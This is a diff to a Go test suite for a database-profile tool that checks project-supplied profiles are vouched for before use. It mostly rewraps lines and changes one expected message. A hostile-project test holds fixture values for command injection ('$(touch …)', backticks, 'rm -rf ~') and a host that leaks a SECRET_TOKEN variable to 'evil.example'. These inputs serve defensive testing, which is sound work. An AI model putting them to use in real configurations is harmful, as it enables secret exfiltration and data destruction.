@@ -45,13 +45,14 @@ func vouchFor(t *testing.T, p *testkit.Program, names ...string) {
 func TestVouch(t *testing.T) {
 	t.Parallel()
 	p, server := standin(t, birds())
-	base := "[profile.counts]\nengine = \"postgresql\"\nhost = \"${COUNTS:-127.0.0.1}\"\nport = %d\nuser = \"warden\"\ndatabase = \"sightings\"\ncommand = [\"sh\", \"scripts/unlock.sh\"]\ntags = [\"team\"]\n"
+	base := "[profile.counts]\nengine = \"postgresql\"\nhost = \"${COUNTS:-127.0.0.1}\"\nport = %d\nuser = " +
+		"\"warden\"\ndatabase = \"sightings\"\ncommand = [\"sh\", \"scripts/unlock.sh\"]\ntags = [\"team\"]\n"
 	text := fmt.Sprintf(base, server.Port())
 	root := project(t, p, text)
 	script := filepath.Join(root, "scripts", "unlock.sh")
 	p.Write(script, "echo dunlin\n")
 
-	p.OK("list").Has("counts", "project, not vouched", "${COUNTS:-127.0.0.1}", "you")
+	p.OK("list").Has("counts", "project, not approved", "${COUNTS:-127.0.0.1}", "you")
 	p.OK("show", "counts").Has("you have not vouched", "gharbor vouch counts", "sh,scripts/unlock.sh")
 	connections := server.Connections()
 	p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
@@ -61,7 +62,8 @@ func TestVouch(t *testing.T) {
 	p.Run("certificate", "counts").Want(5).Has("profile.not-vouched")
 	p.Run("test", "-tag", "team").Want(2).Has("1 profile of the project's file left out")
 	p.OK("test", "-all").Has("1 profile of the project's file left out").HasNot("counts:")
-	p.Run("vouch").Want(2).Has("no terminal to ask on", " ./scripts/unlock.sh", "file of the command  sha256:", "variable in host     COUNTS\n", "not hashed: what the program reads or runs by itself")
+	p.Run("vouch").Want(2).Has("no terminal to ask on", " ./scripts/unlock.sh", "file of the command  sha256:", "variable in host     COUNTS\n",
+		"not hashed: what the program reads or runs by itself")
 	p.Run("vouch", "-expect", strings.Repeat("0", 64)).Want(1).Has("another one than expected")
 	if server.Connections() != connections+1 { // that of -all
 		t.Errorf("%d connections", server.Connections())
@@ -84,7 +86,8 @@ func TestVouch(t *testing.T) {
 	p.OK("test", "counts").Has("ready: ")
 	rewritten("[profile.counts]", "[profile.new]\nengine = \"mysql\"\nhost = \"h.example\"\n\n[profile.counts]")
 	p.OK("test", "counts").Has("ready: ")
-	for _, change := range [][2]string{{"127.0.0.1", "127.0.0.2"}, {"user = \"warden\"", "user = \"visitor\""}, {"tags", "tls = \"off\"\ntags"}, {"\"sh\",", "\"bash\","}, {"command = [\"sh\", \"scripts/unlock.sh\"]", "secret = \"ask\""}} {
+	for _, change := range [][2]string{{"127.0.0.1", "127.0.0.2"}, {"user = \"warden\"", "user = \"visitor\""}, {"tags", "tls = \"off\"\ntags"}, {"\"sh\",", "\"bash\","}, {"command " +
+		"= [\"sh\", \"scripts/unlock.sh\"]", "secret = \"ask\""}} {
 		rewritten(change[0], change[1])
 		s := p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
 		if !strings.Contains(s.Seen(), "+ ") && !strings.Contains(s.Seen(), "- ") {
@@ -126,17 +129,22 @@ func TestVouch(t *testing.T) {
 func TestVouchFiles(t *testing.T) {
 	t.Parallel()
 	p, server := standin(t, birds())
-	root := project(t, p, fmt.Sprintf("[profile.counts]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = %d\nuser = \"warden\"\ndatabase = \"sightings\"\nsecret = \"file:pw/secret\"\n", server.Port())+
-		"\n[profile.rings]\nengine = \"mysql\"\nhost = \"127.0.0.1\"\nuser = \"ringer\"\nsecret = \"optionfile:my.cnf#rings\"\n"+
-		"\n[profile.folder]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\ncommand = [\"ls\", \"pw\"]\n"+
-		"\n[profile.outside]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\nsecret = \"file:~/secret\"\ntls-ca = \"gone.pem\"\n")
+	root := project(t, p, fmt.Sprintf("[profile.counts]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = "+
+		"%d\nuser = \"warden\"\ndatabase = \"sightings\"\nsecret = \"file:pw/secret\"\n", server.Port())+
+		"\n[profile.rings]\nengine = \"mysql\"\nhost = \"127.0.0.1\"\nuser = \"ringer\"\nsecret = "+
+		"\"optionfile:my.cnf#rings\"\n"+
+		"\n[profile.folder]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\ncommand = [\"ls\", "+
+		"\"pw\"]\n"+
+		"\n[profile.outside]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\nsecret = "+
+		"\"file:~/secret\"\ntls-ca = \"gone.pem\"\n")
 	secret := filepath.Join(root, "pw", "secret")
 	p.Write(secret, "dunlin\n")
 	p.Write(filepath.Join(root, "my.cnf"), "!include more.cnf\n")
 	p.Write(filepath.Join(root, "more.cnf"), "[rings]\npassword=knot\n")
 	p.Run("vouch", "rings").Has("'optionfile:my.cnf#rings'", "secret file    sha256:", " ./my.cnf", " ./more.cnf")
 	p.Run("vouch", "folder").Want(3).Has("gharbor.toml:", "a folder of the repository (./pw)")
-	p.Run("vouch", "outside").Has("outside of the repository, not hashed: ", "/secret, written 'file:~/secret'", "./gone.pem (not there)")
+	p.Run("vouch", "outside").Has("outside of the repository, not hashed: ",
+		"/secret, written 'file:~/secret'", "./gone.pem (not there)")
 	vouchFor(t, p, "counts")
 	p.OK("test", "counts").Has("ready: ")
 	p.Write(secret, "knot\n")
@@ -168,7 +176,8 @@ func testHostileProject(t *testing.T) {
 	p.Setenv("SECRET_TOKEN", "Reed-Bunting-Canary")
 	p.Passfile("*:*:*:*:Reed-Bunting-Canary")
 	mark := filepath.Join(t.TempDir(), "mark")
-	there := fmt.Sprintf("engine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = %d\nuser = \"warden\"\ndatabase = \"sightings\"\n", trap.Port())
+	there := fmt.Sprintf("engine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = %d\nuser = \"warden\"\ndatabase = "+
+		"\"sightings\"\n", trap.Port())
 	profiles := map[string]string{
 		"command":   there + "command = [\"sh\", \"-c\", \"touch " + mark + "; echo x\"]\n",
 		"path":      there + "secret = \"command:./run-me\"\n",
@@ -179,7 +188,8 @@ func testHostileProject(t *testing.T) {
 		"variable":  "engine = \"postgresql\"\nhost = \"${SECRET_TOKEN}.evil.example\"\nuser = \"warden\"\n",
 		"weaker":    there + "tls = \"off\"\nsecret = \"wallet:sightings\"\n",
 		"liked":     "like = \"default\"\nsecret = \"env:SECRET_TOKEN\"\n",
-		"words":     there + "note = \"\\u202e$(touch " + mark + ")`touch " + mark + "`; rm -rf ~\"\ntags = [\"a;b\"]\n",
+		"words": there + "note = \"\\u202e$(touch " + mark + ")`touch " + mark + "`; rm -rf ~\"\ntags = " +
+			"[\"a;b\"]\n",
 	}
 	var text strings.Builder
 	for name, body := range profiles {
@@ -214,7 +224,8 @@ func testHostileProject(t *testing.T) {
 	if trap.Connections() != 0 {
 		t.Errorf("%d connections to where the project leads", trap.Connections())
 	}
-	p.OK("show", "sightings").Has("notice: the project's file has a profile sightings too", fmt.Sprint(server.Port())).HasNot(fmt.Sprint(trap.Port()))
+	p.OK("show", "sightings").Has("notice: the project's file has a profile sightings too",
+		fmt.Sprint(server.Port())).HasNot(fmt.Sprint(trap.Port()))
 
 	// Vouched for in good faith, a profile still gets no entry that is not bound there.
 	for _, name := range []string{"wallet", "weaker", "unbound"} {
@@ -253,7 +264,8 @@ func TestProjectEdits(t *testing.T) {
 	p.OK("copy", "counts", "more", "-project")
 	p.Run("copy", "counts", "mine").Want(3).Has("profile.not-vouched", "gharbor vouch counts")
 	vouchFor(t, p, "counts")
-	p.Run("copy", "counts", "mine").Want(3).Has("uses files of the repository (./ca.pem)", "gharbor add mine -like project:counts")
+	p.Run("copy", "counts", "mine").Want(3).Has("uses files of the repository (./ca.pem)",
+		"gharbor add mine -like project:counts")
 	p.OK("set", "counts", "tls-ca=/etc/ssl/ca.pem")
 	p.Run("copy", "counts", "mine").Want(3).Has("profile.not-vouched") // it has lapsed
 	vouchFor(t, p, "counts")
@@ -263,7 +275,8 @@ func TestProjectEdits(t *testing.T) {
 	p.OK("remove", "other", "-yes").Has(path)
 	p.Run("remove", "other", "-yes").Want(2)
 	data, err := os.ReadFile(path)
-	if err != nil || string(data) != "format = 1\n\n[profile.counts]\nengine = \"postgresql\"\nhost   = \"db.saltmarsh.example\"\nuser   = \"warden\"\ntls-ca = \"ca.pem\"\nnote   = \"ours\"\n\n" {
+	if err != nil || string(data) != "format = 1\n\n[profile.counts]\nengine = \"postgresql\"\nhost   = "+
+		"\"db.saltmarsh.example\"\nuser   = \"warden\"\ntls-ca = \"ca.pem\"\nnote   = \"ours\"\n\n" {
 		t.Errorf("%s %v", data, err)
 	}
 	if text := p.ReadProfiles(); !strings.Contains(text, "tls-ca = \"/etc/ssl/ca.pem\"") {
@@ -275,6 +288,6 @@ func TestProjectEdits(t *testing.T) {
 	}
 	p.Run("add", "counts", "-project", "-engine", "mysql", "-host", "h").Want(2).Has("exists already")
 	p.OK("add", "counts", "-engine", "mysql", "-host", "h")
-	p.OK("list").Has("project:counts", "project, not vouched")
+	p.OK("list").Has("project:counts", "project, not approved")
 	p.Run("shortcut", "project:counts", "x-counts", "-into", t.TempDir(), "--", "true").Want(2).Has("is the project's")
 }
